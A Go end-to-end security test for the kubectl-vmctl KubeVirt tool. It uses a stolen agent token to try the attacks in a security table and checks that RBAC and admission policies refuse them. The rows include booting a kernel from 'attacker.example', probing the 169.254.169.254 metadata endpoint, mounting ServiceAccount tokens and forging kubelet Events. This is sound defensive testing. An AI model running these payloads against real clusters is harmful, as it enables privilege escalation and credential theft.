//go:build e2e

package e2e

import (
	"context"
	"fmt"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	policyv1 "k8s.io/api/policy/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/client-go/kubernetes"
	"k8s.io/utils/ptr"
	kubevirtv1 "kubevirt.io/api/core/v1"
	"kubevirt.io/client-go/kubevirt"

	"github.com/kubectl-vmctl/kubectl-vmctl/internal/agent"
	"github.com/kubectl-vmctl/kubectl-vmctl/internal/contract"
	"github.com/kubectl-vmctl/kubectl-vmctl/internal/derive"
	"github.com/kubectl-vmctl/kubectl-vmctl/internal/revision"
	"github.com/kubectl-vmctl/kubectl-vmctl/internal/scaffold"
)

// securityModes are the columns of the table in docs/security.md.
type securityMode int

const (
	policyOff    securityMode = iota // scaffold --admission-policy=false, prototype beside the fleet
	policyOn                         // scaffold's default, prototype beside the fleet
	ownNamespace                     // policy on, the fleet in a namespace of its own, the prototype elsewhere
)

func (m securityMode) String() string {
	return [...]string{"policy off", "policy on", "fleet in its own namespace"}[m]
}

// agentFleet is one scaffolded Deployment of two agents, seen by the test as an
// attacker holding the first agent's bound token.
type agentFleet struct {
	ns, protoNS string
	proto       *kubevirtv1.VirtualMachine
	pod, other  corev1.Pod // the token's Pod, and another agent's
	kube        kubernetes.Interface
	virt        kubevirt.Interface
	// foreign is a VM vmctl did not make, beside the fleet; protoSibling
	// one beside the prototype.
	foreign, protoSibling string
	// waiting are, by agent Pod, a launcher Pod of its VM that waits to
	// be scheduled: the API server takes a nomination of no other.
	waiting map[string]string
}

// securityRows are the rows of docs/security.md's table: what a stolen agent
// token tries, and
// whether each mode allows it. A create "allowed" may also end in
// AlreadyExists: admission let it through to storage.
var securityRows = []struct {
	name  string
	try   func(t *testing.T, f *agentFleet) error
	allow [3]bool // by mode
	// because is, for a row refused with the policy on, who refuses it:
	// RBAC, or the phrase of the policy's rule; " | " separates the
	// rules that may each be the first to refuse. With the policy off
	// only RBAC refuses.
	because string
}{
	{"read the prototype", func(t *testing.T, f *agentFleet) error {
		_, err := f.virt.KubevirtV1().VirtualMachines(f.protoNS).Get(t.Context(), f.proto.Name, metav1.GetOptions{})
		return err
	}, [3]bool{true, true, false}, "RBAC"}, // pinned agents read their revision store, never the prototype
	{"read any VM in the fleet's namespace", func(t *testing.T, f *agentFleet) error {
		_, err := f.virt.KubevirtV1().VirtualMachines(f.ns).Get(t.Context(), f.foreign, metav1.GetOptions{})
		return err
	}, [3]bool{true, true, true}, ""},
	{"read another VM in the prototype's namespace", func(t *testing.T, f *agentFleet) error {
		_, err := f.virt.KubevirtV1().VirtualMachines(f.protoNS).Get(t.Context(), f.protoSibling, metav1.GetOptions{})
		return err
	}, [3]bool{true, true, false}, "RBAC"},
	{"read the Pods of its namespace", func(t *testing.T, f *agentFleet) error {
		_, err := f.kube.CoreV1().Pods(f.ns).List(t.Context(), metav1.ListOptions{})
		return err
	}, [3]bool{true, true, true}, ""},
	{"read Secrets", func(t *testing.T, f *agentFleet) error {
		_, err := f.kube.CoreV1().Secrets(f.ns).List(t.Context(), metav1.ListOptions{})
		return err
	}, [3]bool{false, false, false}, "RBAC"},
	{"create its own Pod's derived VM", func(t *testing.T, f *agentFleet) error {
		_, err := f.virt.KubevirtV1().VirtualMachines(f.ns).Create(t.Context(), derivedFor(t, f, f.pod), metav1.CreateOptions{})
		return err
	}, [3]bool{true, true, true}, ""},
	{"create its own VM claiming a VM revision its store lacks", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) { vm.Annotations[contract.AnnotationVMRevision] = "0123456789" })
	}, [3]bool{true, false, false}, "the VirtualMachine claims | annotations are not | labels or its template's are not | name is not | fields not derive's are not | volumes or dataVolumeTemplates are not | hostname or subdomain is not its own"},
	{"create a VM with another Pod's name", func(t *testing.T, f *agentFleet) error {
		vm := derivedFor(t, f, f.pod)
		vm.Name = derive.Name(f.proto.Name, f.other.Name, f.other.UID)
		_, err := f.virt.KubevirtV1().VirtualMachines(f.ns).Create(t.Context(), vm, metav1.CreateOptions{})
		return err
	}, [3]bool{true, false, false}, "name is not | hostname or subdomain is not its own | volumes or dataVolumeTemplates are not | the VirtualMachine is not this Pod's"},
	{"create a second VM", func(t *testing.T, f *agentFleet) error {
		vm := derivedFor(t, f, f.pod)
		vm.Name += "-2"
		_, err := f.virt.KubevirtV1().VirtualMachines(f.ns).Create(t.Context(), vm, metav1.CreateOptions{})
		if err == nil {
			t.Cleanup(func() {
				_ = e.virt.KubevirtV1().VirtualMachines(f.ns).Delete(context.Background(), vm.Name, metav1.DeleteOptions{})
			})
		}
		return err
	}, [3]bool{true, false, false}, "name is not | volumes or dataVolumeTemplates are not | hostname or subdomain is not its own"},
	{"create its own VM with a serviceAccount volume", func(t *testing.T, f *agentFleet) error {
		vm := derivedFor(t, f, f.pod)
		vm.Spec.Template.Spec.Volumes = append(vm.Spec.Template.Spec.Volumes, kubevirtv1.Volume{
			Name: "stolen", VolumeSource: kubevirtv1.VolumeSource{ServiceAccount: &kubevirtv1.ServiceAccountVolumeSource{ServiceAccountName: "default"}}})
		vm.Spec.Template.Spec.Domain.Devices.Disks = append(vm.Spec.Template.Spec.Domain.Devices.Disks, kubevirtv1.Disk{Name: "stolen"})
		_, err := f.virt.KubevirtV1().VirtualMachines(f.ns).Create(t.Context(), vm, metav1.CreateOptions{})
		return err
	}, [3]bool{true, false, false}, "fields not derive's are not | volumes or dataVolumeTemplates are not"},
	{"create its own VM with another priority class", func(t *testing.T, f *agentFleet) error {
		vm := derivedFor(t, f, f.pod)
		vm.Spec.Template.Spec.PriorityClassName = "system-cluster-critical"
		_, err := f.virt.KubevirtV1().VirtualMachines(f.ns).Create(t.Context(), vm, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	}, [3]bool{true, false, false}, "priority class is not"},
	{"create its own VM booting its own kernel", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) {
			vm.Spec.Template.Spec.Domain.Firmware.KernelBoot = &kubevirtv1.KernelBoot{Container: &kubevirtv1.KernelBootContainer{
				Image: "attacker.example/evil-kernel", KernelPath: "/boot/vmlinuz"}}
		})
	}, [3]bool{true, false, false}, "fields not derive's are not"},
	{"create its own VM with another app's labels on its launcher Pod", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) { vm.Spec.Template.ObjectMeta.Labels["app"] = "payments" })
	}, [3]bool{true, false, false}, "labels or its template's are not"},
	{"create its own VM labelled for another agent's Pod", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) {
			vm.Labels[contract.LabelPod] = f.other.Name
			vm.Spec.Template.ObjectMeta.Labels[contract.LabelPod] = f.other.Name
		})
	}, [3]bool{true, false, false}, "labels or its template's are not | the VirtualMachine is not this Pod's"},
	{"create its own VM whose readiness probe asks a host it picks", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) {
			vm.Spec.Template.Spec.ReadinessProbe = &kubevirtv1.Probe{Handler: kubevirtv1.Handler{HTTPGet: &corev1.HTTPGetAction{
				Host: "169.254.169.254", Path: "/latest/meta-data/", Port: intstr.FromInt32(80)}}}
		})
	}, [3]bool{true, false, false}, "fields not derive's are not"},
	{"create its own VM with a MAC address", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) {
			vm.Spec.Template.Spec.Domain.Devices.Interfaces[0].MacAddress = "02:00:00:0a:0b:0c"
		})
	}, [3]bool{true, false, false}, "machine identity is not its own | fields not derive's are not"},
	{"create its own VM bridged in place of masquerade", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) {
			vm.Spec.Template.Spec.Domain.Devices.Interfaces[0].InterfaceBindingMethod = kubevirtv1.InterfaceBindingMethod{Bridge: &kubevirtv1.InterfaceBridge{}}
		})
	}, [3]bool{true, false, false}, "fields not derive's are not"},
	{"create its own VM tolerating every taint, on a control-plane node", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) {
			vm.Spec.Template.Spec.Tolerations = []corev1.Toleration{{Operator: corev1.TolerationOpExists}}
			vm.Spec.Template.Spec.NodeSelector = map[string]string{"node-role.kubernetes.io/control-plane": ""}
		})
	}, [3]bool{true, false, false}, "fields not derive's are not | is not pinned to its Pod's node"},
	{"create its own VM with another scheduler", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) { vm.Spec.Template.Spec.SchedulerName = "my-scheduler" })
	}, [3]bool{true, false, false}, "fields not derive's are not"},
	{"create its own VM never evicted", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) {
			vm.Spec.Template.Spec.EvictionStrategy = ptr.To(kubevirtv1.EvictionStrategyNone)
		})
	}, [3]bool{true, false, false}, "fields not derive's are not | runs always (runStrategy Always | machine identity is not its own"},
	{"create its own VM with a persistent TPM", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) {
			vm.Spec.Template.Spec.Domain.Devices.TPM = &kubevirtv1.TPMDevice{Persistent: ptr.To(true)}
		})
	}, [3]bool{true, false, false}, "fields not derive's are not"},
	{"create its own VM with another firmware UUID", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) {
			vm.Spec.Template.Spec.Domain.Firmware.UUID = f.other.UID
		})
	}, [3]bool{true, false, false}, "machine identity is not its own"},
	{"create its own VM with a DNS server it picks", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) {
			vm.Spec.Template.Spec.DNSPolicy = corev1.DNSNone
			vm.Spec.Template.Spec.DNSConfig = &corev1.PodDNSConfig{Nameservers: []string{"10.0.0.53"}}
		})
	}, [3]bool{true, false, false}, "fields not derive's are not | hostname or subdomain is not its own"},
	{"create its own VM with another app's resource claim", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) {
			vm.Spec.Template.Spec.ResourceClaims = []kubevirtv1.VirtualMachineInstanceResourceClaim{{Name: "gpu", ResourceClaimName: ptr.To("payments-gpu")}}
		})
	}, [3]bool{true, false, false}, "fields not derive's are not"},
	{"create its own VM with a finalizer", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) { vm.Finalizers = []string{"example.com/never"} })
	}, [3]bool{true, false, false}, "holds fields a derived VM never has"},
	{"create its own VM labelled with an empty subdomain", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) {
			vm.Labels[contract.LabelSubdomain] = ""
			vm.Spec.Template.ObjectMeta.Labels[contract.LabelSubdomain] = ""
		})
	}, [3]bool{true, false, false}, "labels or its template's are not"},
	{"create its own VM with an empty launcher priority class", func(t *testing.T, f *agentFleet) error {
		return dryRunOwn(t, f, func(vm *kubevirtv1.VirtualMachine) { vm.Annotations[contract.AnnotationLauncherPriorityClass] = "" })
	}, [3]bool{true, false, false}, "priority class is not"},
	{"record an Event about its own Pod", func(t *testing.T, f *agentFleet) error {
		_, err := f.kube.CoreV1().Events(f.ns).Create(t.Context(), agentEvent(f, f.pod), metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	}, [3]bool{true, true, true}, ""},
	{"record an Event about its own Pod with a megabyte's message", func(t *testing.T, f *agentFleet) error {
		ev := agentEvent(f, f.pod)
		ev.Message = strings.Repeat("x", 1<<20)
		_, err := f.kube.CoreV1().Events(f.ns).Create(t.Context(), ev, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	}, [3]bool{true, false, false}, "Events have one of its reasons"},
	{"record an Event about its own Pod with the kubelet's reason", func(t *testing.T, f *agentFleet) error {
		ev := agentEvent(f, f.pod)
		ev.Reason, ev.Message = "Killing", "Stopping container agent"
		_, err := f.kube.CoreV1().Events(f.ns).Create(t.Context(), ev, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	}, [3]bool{true, false, false}, "Events have one of its reasons"},
	{"record an Event about another agent's Pod, signed as the kubelet", func(t *testing.T, f *agentFleet) error {
		ev := agentEvent(f, f.other)
		ev.Source.Component, ev.ReportingController = "kubelet", "kubelet"
		_, err := f.kube.CoreV1().Events(f.ns).Create(t.Context(), ev, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	}, [3]bool{true, false, false}, "may only record Events about its own Pod | Events are signed vmctl-agent from its own node"},
	{"patch the scheduler's Events", func(t *testing.T, f *agentFleet) error {
		_, err := f.kube.CoreV1().Events(f.ns).Patch(t.Context(), schedulerEvent(t, f), types.MergePatchType,
			[]byte(`{"message":"nothing to see"}`), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	}, [3]bool{true, false, false}, "may only record Events about its own Pod | Events are signed vmctl-agent from its own node"},
	{"change (patch) the prototype", func(t *testing.T, f *agentFleet) error {
		_, err := f.virt.KubevirtV1().VirtualMachines(f.protoNS).Patch(t.Context(), f.proto.Name, types.MergePatchType,
			[]byte(`{"metadata":{"labels":{"stolen":"yes"}}}`), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	}, [3]bool{false, false, false}, "RBAC"},
	{"delete a VM vmctl did not make", func(t *testing.T, f *agentFleet) error {
		return dryRunDelete(t, f, f.ns, f.foreign, nil)
	}, [3]bool{true, false, false}, "may only create and delete VMs and VMIs labelled"},
	{"delete another agent's VM", func(t *testing.T, f *agentFleet) error {
		return dryRunDelete(t, f, f.ns, derive.Name(f.proto.Name, f.other.Name, f.other.UID), nil)
	}, [3]bool{true, false, false}, "the VirtualMachine is not this Pod's"},
	{"delete the prototype", func(t *testing.T, f *agentFleet) error {
		return dryRunDelete(t, f, f.protoNS, f.proto.Name, nil)
	}, [3]bool{true, false, false}, "RBAC | may never change or delete its prototype | may only create and delete VMs and VMIs labelled"},
	{"delete its own Pod's VM", func(t *testing.T, f *agentFleet) error {
		return dryRunDelete(t, f, f.ns, derive.Name(f.proto.Name, f.pod.Name, f.pod.UID), nil)
	}, [3]bool{true, true, true}, ""},
	{"delete its own Pod's VM, orphaning its VMI", func(t *testing.T, f *agentFleet) error {
		return dryRunDelete(t, f, f.ns, derive.Name(f.proto.Name, f.pod.Name, f.pod.UID), func(o *metav1.DeleteOptions) {
			o.PropagationPolicy = ptr.To(metav1.DeletePropagationOrphan)
		})
	}, [3]bool{true, false, false}, "deletes its VM only on condition of its UID and in the background"},
	{"resize its own Pod smaller", func(t *testing.T, f *agentFleet) error {
		return dryRunResize(t, f, f.pod, `{"limits":{"cpu":"50m"}}`)
	}, [3]bool{true, true, true}, ""},
	{"resize its own Pod larger", func(t *testing.T, f *agentFleet) error {
		return dryRunResize(t, f, f.pod, `{"requests":{"memory":"1Gi"},"limits":{"memory":"2Gi"}}`)
	}, [3]bool{true, false, false}, "may only make its own Pod smaller"},
	{"resize another agent's Pod", func(t *testing.T, f *agentFleet) error {
		return dryRunResize(t, f, f.other, `{"limits":{"cpu":"50m"}}`)
	}, [3]bool{true, false, false}, "may only resize or evict its own Pod"},
	{"nominate its VM's launcher Pod to its node", func(t *testing.T, f *agentFleet) error {
		return dryRunStatus(t, f, f.waiting[f.pod.Name], fmt.Sprintf(`{"nominatedNodeName":%q}`, f.pod.Spec.NodeName))
	}, [3]bool{true, true, true}, ""},
	{"nominate its VM's launcher Pod to another node", func(t *testing.T, f *agentFleet) error {
		return dryRunStatus(t, f, f.waiting[f.pod.Name], `{"nominatedNodeName":"elsewhere"}`)
	}, [3]bool{true, false, false}, "may only nominate its VM's launcher Pod to its own node"},
	{"mark its VM's launcher Pod not ready", func(t *testing.T, f *agentFleet) error {
		return dryRunStatus(t, f, launcherOf(t, f, f.pod), `{"conditions":[{"type":"Ready","status":"False"}]}`)
	}, [3]bool{true, false, false}, "may only nominate its VM's launcher Pod to its own node | may only change the status of its own VM's launcher Pod"},
	{"nominate another agent's VM's launcher Pod", func(t *testing.T, f *agentFleet) error {
		return dryRunStatus(t, f, f.waiting[f.other.Name], fmt.Sprintf(`{"nominatedNodeName":%q}`, f.pod.Spec.NodeName))
	}, [3]bool{true, false, false}, "may only change the status of its own VM's launcher Pod"},
	{"evict its own Pod", func(t *testing.T, f *agentFleet) error {
		return dryRunEvict(t, f, f.pod)
	}, [3]bool{true, true, true}, ""},
	{"evict its own Pod with no grace period", func(t *testing.T, f *agentFleet) error {
		return f.kube.PolicyV1().Evictions(f.ns).Evict(t.Context(), &policyv1.Eviction{
			ObjectMeta: metav1.ObjectMeta{Name: f.pod.Name, Namespace: f.ns},
			DeleteOptions: &metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}, GracePeriodSeconds: ptr.To[int64](0),
				Preconditions: metav1.NewUIDPreconditions(string(f.pod.UID))},
		})
	}, [3]bool{true, false, false}, "may only resize or evict its own Pod"},
	{"evict another agent's Pod", func(t *testing.T, f *agentFleet) error {
		return dryRunEvict(t, f, f.other)
	}, [3]bool{true, false, false}, "may only resize or evict its own Pod"},
}

// dryRunOwn asks, as a server-side dry run, to create the token's own
// Pod's derived VM as change makes it. Admission judges it as it would the
// real thing; with the policy off the API server then finds the name taken
// (AlreadyExists), which the table counts as allowed.
func dryRunOwn(t *testing.T, f *agentFleet, change func(*kubevirtv1.VirtualMachine)) error {
	vm := derivedFor(t, f, f.pod)
	change(vm)
	_, err := f.virt.KubevirtV1().VirtualMachines(f.ns).Create(t.Context(), vm, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
	return err
}

// dryRunDelete asks, as a server-side dry run, to delete the VM
// namespace/name with the options an agent deletes its VM with
// (contract.VMDeleteOptions, on condition of the VM's UID, read by the
// admin), as change makes them.
func dryRunDelete(t *testing.T, f *agentFleet, namespace, name string, change func(*metav1.DeleteOptions)) error {
	t.Helper()
	vm, err := e.virt.KubevirtV1().VirtualMachines(namespace).Get(t.Context(), name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	opts := contract.VMDeleteOptions(vm.UID)
	opts.DryRun = []string{metav1.DryRunAll}
	if change != nil {
		change(&opts)
	}
	return f.virt.KubevirtV1().VirtualMachines(namespace).Delete(t.Context(), name, opts)
}

// agentEvent is an Event about pod as its agent records it (the agent's
// source and subject).
func agentEvent(f *agentFleet, pod corev1.Pod) *corev1.Event {
	id := agent.Identity{PodName: pod.Name, PodNamespace: pod.Namespace, PodUID: pod.UID, Node: pod.Spec.NodeName}
	now := metav1.Now()
	source := agent.EventSource(id)
	return &corev1.Event{
		ObjectMeta:     metav1.ObjectMeta{GenerateName: pod.Name + ".", Namespace: f.ns},
		InvolvedObject: *agent.EventSubject(id),
		Reason:         agent.ReasonCreated, Message: "Created VM", Type: corev1.EventTypeNormal,
		FirstTimestamp: now, LastTimestamp: now, Count: 1,
		Source: source, ReportingController: source.Component, ReportingInstance: source.Host,
	}
}

// schedulerEvent names an Event kube-scheduler recorded about the other
// agent's Pod.
func schedulerEvent(t *testing.T, f *agentFleet) string {
	t.Helper()
	list, err := e.kube.CoreV1().Events(f.ns).List(t.Context(), metav1.ListOptions{FieldSelector: "involvedObject.name=" + f.other.Name})
	if err != nil {
		t.Fatal(err)
	}
	for _, ev := range list.Items {
		if ev.ReportingController == "default-scheduler" || ev.Source.Component == "default-scheduler" {
			return ev.Name
		}
	}
	t.Fatalf("no Event of kube-scheduler about %s among %d", f.other.Name, len(list.Items))
	return ""
}

// dryRunResize asks, as a server-side dry run, to set the agent container's
// resources of pod as resources (JSON) says.
func dryRunResize(t *testing.T, f *agentFleet, pod corev1.Pod, resources string) error {
	patch := fmt.Sprintf(`{"spec":{"containers":[{"name":%q,"resources":%s}]}}`, contract.ContainerName, resources)
	_, err := f.kube.CoreV1().Pods(f.ns).Patch(t.Context(), pod.Name, types.StrategicMergePatchType, []byte(patch),
		metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}}, "resize")
	return err
}

// dryRunStatus asks, as a server-side dry run, to merge status (JSON) into
// the status of Pod name.
func dryRunStatus(t *testing.T, f *agentFleet, name, status string) error {
	_, err := f.kube.CoreV1().Pods(f.ns).Patch(t.Context(), name, types.MergePatchType, []byte(`{"status":`+status+`}`),
		metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}}, "status")
	return err
}

// waitingLauncher makes, as KubeVirt would for the VM of pod's agent, a
// launcher Pod that waits to be scheduled (no node has its label) and
// returns its name: the pod policy judges a launcher Pod by its labels.
func waitingLauncher(t *testing.T, f *agentFleet, pod corev1.Pod) string {
	t.Helper()
	vm := derive.Name(f.proto.Name, pod.Name, pod.UID)
	p := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "virt-launcher-" + vm + "-waits", Namespace: f.ns, Labels: map[string]string{
			kubevirtv1.AppLabel: "virt-launcher", contract.LabelPrototype: derive.LabelValue(f.proto.Name), contract.LabelPod: pod.Name,
		}},
		Spec: corev1.PodSpec{
			NodeSelector: map[string]string{"e2e.vmctl.kubevirt.io/no-such-node": "true"},
			Containers:   []corev1.Container{{Name: "compute", Image: "registry.k8s.io/pause:3.10"}},
		},
	}
	if _, err := e.kube.CoreV1().Pods(f.ns).Create(t.Context(), p, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	return p.Name
}

// launcherOf names the launcher Pod on which the VM of pod's agent runs.
func launcherOf(t *testing.T, f *agentFleet, pod corev1.Pod) string {
	t.Helper()
	list, err := e.kube.CoreV1().Pods(f.ns).List(t.Context(), metav1.ListOptions{
		LabelSelector: kubevirtv1.AppLabel + "=virt-launcher," + contract.LabelPod + "=" + pod.Name,
		FieldSelector: "spec.nodeName!="})
	if err != nil || len(list.Items) != 1 {
		t.Fatalf("the launcher Pod of %s's VM: %d found (%v)", pod.Name, len(list.Items), err)
	}
	return list.Items[0].Name
}

// dryRunEvict asks, as a server-side dry run, to evict pod by its UID, as an
// agent that gives up its node does.
func dryRunEvict(t *testing.T, f *agentFleet, pod corev1.Pod) error {
	return f.kube.PolicyV1().Evictions(f.ns).Evict(t.Context(), &policyv1.Eviction{
		ObjectMeta:    metav1.ObjectMeta{Name: pod.Name, Namespace: f.ns},
		DeleteOptions: &metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}, Preconditions: metav1.NewUIDPreconditions(string(pod.UID))},
	})
}

// TestStolenAgentToken tries, with a real agent Pod's own bound
// ServiceAccount token, each row of the security model in docs/security.md in
// each of its modes, and checks the API server allows or refuses it exactly
// as the table says. Deletes and patches are server-side dry runs: admission
// judges them as it would the real thing, and nothing changes.
func TestStolenAgentToken(t *testing.T) {
	t.Run("docs/security.md says what is tried", checkSecurityTable)
	t.Run("a StatefulSet's claims", stolenTokenClaims)
	t.Run("names past 63 characters", stolenTokenLongNames)
	for _, mode := range []securityMode{policyOff, policyOn, ownNamespace} {
		t.Run(mode.String(), func(t *testing.T) {
			f := newAgentFleet(t, mode)
			for _, row := range securityRows {
				t.Run(row.name, func(t *testing.T) {
					err := row.try(t, f)
					allowed := err == nil || apierrors.IsAlreadyExists(err)
					t.Logf("%s: %v", mode, err)
					if allowed != row.allow[mode] {
						t.Errorf("%s with %s: allowed=%v (err %v), docs/security.md says allowed=%v", row.name, mode, allowed, err, row.allow[mode])
					}
					if !allowed && !apierrors.IsForbidden(err) {
						t.Errorf("%s refused with %v, want 403 Forbidden (RBAC or the admission policy)", row.name, err)
					}
					if !allowed {
						checkRefusal(t, f, mode, row.because, err)
					}
				})
			}
		})
	}
}

// refusedBy matches the API server's refusal by an admission policy: the
// policy, its binding, and its rule's message.
var refusedBy = regexp.MustCompile(`ValidatingAdmissionPolicy '([^']+)' with binding '([^']+)' denied request: (.*)`)

// checkRefusal checks that err is the refusal because names in mode: RBAC's,
// or that of the fleet's policy whose rule says one of its phrases, bound
// by the policy's own binding.
func checkRefusal(t *testing.T, f *agentFleet, mode securityMode, because string, err error) {
	t.Helper()
	if mode == policyOff {
		if !refusedByRBAC(f.ns, err) {
			t.Errorf("refused with %v, want RBAC's refusal: the policy is off", err)
		}
		return
	}
	checkRefusedBy(t, f.ns, scaffold.DefaultName("testvm"), because, err)
}

// refusedByRBAC reports whether err is RBAC's refusal of a ServiceAccount
// of ns.
func refusedByRBAC(ns string, err error) bool {
	msg := fmt.Sprint(err)
	return strings.Contains(msg, "is forbidden: User \"system:serviceaccount:"+ns+":") && strings.Contains(msg, " cannot ") &&
		!strings.Contains(msg, "ValidatingAdmissionPolicy")
}

// checkRefusedBy checks that err, refused to an agent of workload in ns
// with the policies on, is the refusal because names: RBAC's, or that of
// the workload's policy whose rule says one of its phrases, bound by the
// policy's own binding.
func checkRefusedBy(t *testing.T, ns, workload, because string, err error) {
	t.Helper()
	if because == "" {
		t.Fatalf("refused with %v, and the row names no refusal", err)
	}
	msg := fmt.Sprint(err)
	byRBAC := refusedByRBAC(ns, err)
	policyOf := func(rule string) string {
		switch {
		case slices.Contains(guardRules, rule):
			return workload + "-guard." + ns
		case slices.Contains(eventRules, rule):
			return workload + "-events." + ns
		case slices.Contains(podRules, rule):
			return workload + "-pod." + ns
		}
		return scaffold.CreatePolicyName(workload, ns)
	}
	m := refusedBy.FindStringSubmatch(msg)
	for _, rule := range strings.Split(because, " | ") {
		if rule == "RBAC" && byRBAC {
			return
		}
		if m != nil && m[1] == policyOf(rule) && m[2] == m[1] && strings.Contains(m[3], rule) {
			return
		}
	}
	t.Errorf("refused with %v, want the refusal of %s", err, because)
}

// The rules of the guard, event and pod policies, by a phrase of their
// messages; the others are the create policy's.
var (
	guardRules = []string{"may only create and delete VMs and VMIs labelled", "the request carries no Pod", "never changes a VirtualMachine or a VMI",
		"may never change or delete its prototype", "the VirtualMachine is not this Pod's", "may only delete its own Pod's VMI",
		"deletes its VM only on condition of its UID and in the background"}
	eventRules = []string{"may only record Events about its own Pod", "Events are signed vmctl-agent from its own node", "Events have one of its reasons"}
	podRules   = []string{"may only resize or evict its own Pod", "may only make its own Pod smaller",
		"may only change the status of its own VM's launcher Pod", "may only nominate its VM's launcher Pod to its own node"}
)

// newAgentFleet scaffolds two agents for mode, waits for their VMs, and returns
// the first agent's token clients.
func newAgentFleet(t *testing.T, mode securityMode) *agentFleet {
	t.Helper()
	f := &agentFleet{ns: namespace(t)}
	f.protoNS = f.ns
	flags := []string{"--replicas", "2"}
	switch mode {
	case policyOff:
		flags = append(flags, "--admission-policy=false")
	case ownNamespace:
		f.protoNS = namespace(t)
		flags = append(flags, "--proto-namespace", f.protoNS)
	}
	f.proto = createPrototype(t, f.protoNS, "testvm.yaml")
	admin := e.virt.KubevirtV1()
	for _, vm := range []struct{ ns, name string }{{f.ns, "not-vmctl"}, {f.protoNS, "beside-the-prototype"}} {
		foreign := plainVM(f.proto, vm.name)
		foreign.Namespace = vm.ns
		if _, err := admin.VirtualMachines(vm.ns).Create(t.Context(), foreign, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	f.foreign, f.protoSibling = "not-vmctl", "beside-the-prototype"
	deploy(t, f.ns, scaffold.KindDeployment, "testvm", flags...)
	pairs := waitPaired(t, f.ns, "testvm", 2, settle)
	pods, err := agentPods(t.Context(), f.ns)
	if err != nil {
		t.Fatal(err)
	}
	names := sortedKeys(pairs)
	f.pod, f.other = pods[names[0]], pods[names[1]]
	f.kube, f.virt = agentClients(t, f.ns, scaffold.DefaultName("testvm"), f.pod)
	f.waiting = map[string]string{f.pod.Name: waitingLauncher(t, f, f.pod), f.other.Name: waitingLauncher(t, f, f.other)}
	if mode != policyOff {
		waitPolicyInForce(t, f)
	}
	return f
}

// waitPolicyInForce waits until the API server enforces the fleet's policy:
// it takes effect once the API server's informers have it.
func waitPolicyInForce(t *testing.T, f *agentFleet) {
	t.Helper()
	eventually(t, 2*time.Minute, "the admission policy in force", func(ctx context.Context) (bool, string, error) {
		err := f.virt.KubevirtV1().VirtualMachines(f.ns).Delete(ctx, f.foreign, metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}})
		if err == nil {
			return false, "delete of a foreign VM allowed", nil
		}
		if apierrors.IsForbidden(err) && strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
			return true, "", nil
		}
		return false, err.Error(), nil
	})
}

// derivedFor is the VM an agent of pod derives, from the revision its
// template pins, read from the workload's revision store: what the policy
// must let through, before a row changes it.
func derivedFor(t *testing.T, f *agentFleet, pod corev1.Pod) *kubevirtv1.VirtualMachine {
	t.Helper()
	return derivedFromRevision(t, scaffold.DefaultName(f.proto.Name), pod, derive.Options{Namespace: f.ns})
}

// derivedFromRevision is the VM an agent of pod, of the workload called
// workload, derives with opts from the revision its template pins, read
// from the workload's revision store.
func derivedFromRevision(t *testing.T, workload string, pod corev1.Pod, opts derive.Options) *kubevirtv1.VirtualMachine {
	t.Helper()
	hash := pod.Annotations[contract.AnnotationVMRevision]
	name := revision.StoreName(workload)
	cr, err := e.dyn.Resource(revision.StoreGVR).Namespace(pod.Namespace).Get(t.Context(), name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	store, err := revision.FromObject(cr)
	if err != nil {
		t.Fatal(err)
	}
	rev, ok := store.Revisions[hash]
